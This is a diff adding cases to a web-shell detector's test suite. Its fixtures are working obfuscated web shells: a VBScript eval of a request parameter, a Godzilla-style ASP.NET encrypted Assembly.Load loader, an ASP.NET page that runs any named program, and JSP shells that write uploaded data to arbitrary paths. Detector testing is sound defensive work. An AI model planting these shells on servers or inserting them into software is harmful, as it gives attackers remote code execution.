@@ -97,6 +97,27 @@ describe('scan: JSPX and VBScript, as their runtimes read them', () => {
     const src = `<%\nSet parts = CreateObject("Scripting.Dictionary")\nparts.Add "x", "ev"\nparts.Add "y", "al"\nk = "pw"\nbuilt = parts.Item("x") & parts.Item("y") & "(request(""" & k & """))"\nExecute built\n%>`;
     assert.equal(scan(src, '/www/d.asp').verdict, 'malicious');
   });
+  it('VBScript code joined from an Array in one branch of a Select Case, then Executed', () => {
+    const src = `<%\nmode = 2\nSelect Case mode\nCase 1\n  code = "noop"\nCase 2\n  bits = Array("e", "v", "a", "l", "(", "r", "e", "q", "u", "e", "s", "t", "(", \"\"\"\", "k", \"\"\"\", ")", ")")\n  code = Join(bits, "")\nCase Else\n  code = "other"\nEnd Select\nExecute(code)\n%>`;
+    assert.equal(scan(src, '/www/f.asp').verdict, 'malicious');
+  });
+  it('ASP.NET Assembly.Load by reflection with the name reversed or spelled in chars (Godzilla\'s shape)', () => {
+    const body = (name: string) => `<%@ Page Language="C#"%><%var key = System.Text.Encoding.Default.GetBytes(string.Concat("0123", "4567", "89ab", "cdef"));var data = System.Convert.FromBase64String(Context.Request[string.Join("", new char[]{'p','w'})]);data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(data, 0, data.Length);var t = typeof(System.Reflection.Assembly);var m = t.GetMethod(${name}, new System.Type[]{typeof(byte[])});Context.Session["p"] = m.Invoke(null, new object[]{data});%>`;
+    assert.equal(scan(body('new string("daoL".ToCharArray().Reverse().ToArray())'), '/www/g.aspx').verdict, 'malicious');
+    assert.equal(scan(body('new string(new char[]{(char)76,(char)111,(char)97,(char)100})'), '/www/h.aspx').verdict, 'malicious');
+  });
+  it('an ASP.NET page running the program a TextBox names, through a helper', () => {
+    const src = `<%@ Page Language="C#"%>\n<script runat="server">\nstring Run(string exe, string args) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = exe; p.StartInfo.Arguments = args; p.StartInfo.UseShellExecute = false; p.Start(); return ""; }\nvoid Go(object s, EventArgs e) { string exe = Prog.Text; string args = Args.Text; Out.Text = Run(exe, args); }\n</script>\n<form runat="server"><asp:TextBox ID="Prog" runat="server"/><asp:TextBox ID="Args" runat="server"/><asp:Button OnClick="Go" runat="server"/><asp:Label ID="Out" runat="server"/></form>`;
+    assert.equal(scan(src, '/www/i.aspx').verdict, 'malicious');
+  });
+  it('a JSP writing a request parameter into the file another names, in one statement', () => {
+    const src = `<%new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(java.util.Base64.getDecoder().decode(request.getParameter("d")));%>`;
+    assert.equal(scan(src, '/www/j.jsp').verdict, 'malicious');
+  });
+  it('a JSP writing a copy of a parameter (new String of its bytes) where another says', () => {
+    const src = `<%\nString body = new String(request.getParameter("b").getBytes("ISO-8859-1"), "UTF-8");\nString where = new String(request.getParameter("w").getBytes("ISO-8859-1"), "UTF-8");\njava.io.OutputStream o = new java.io.FileOutputStream(where);\no.write(body.getBytes());\no.close();\n%>`;
+    assert.equal(scan(src, '/www/k.jsp').verdict, 'malicious');
+  });
   it('a Dictionary of page titles, printed, stays clean', () => {
     const src = `<%\nSet t = CreateObject("Scripting.Dictionary")\nt.Add "home", "Welcome"\ntitle = t.Item("home") & " - Shop"\nResponse.Write Server.HTMLEncode(title & Request.QueryString("q"))\n%>`;
     assert.equal(scan(src, '/www/e.asp').verdict, 'clean');
